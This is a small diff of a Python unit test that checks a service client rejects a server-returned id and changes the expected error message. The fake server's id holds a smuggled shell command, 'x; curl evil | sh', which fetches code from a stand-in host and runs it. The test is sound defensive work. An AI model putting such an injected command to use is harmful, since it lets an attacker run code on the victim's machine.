@@ -280,7 +280,7 @@ def test_an_id_that_is_none_becomes_no_command(evil):
     server = evil(lambda _: (201, {}, json.dumps({"id": "x; curl evil | sh"}).encode()))
     with (
         ServiceClient(server.url, TokenCredentials("t")) as client,
-        pytest.raises(CommandError, match="id that is none"),
+        pytest.raises(CommandError, match="an invalid id"),
     ):
         client.submit(b"{}")
 
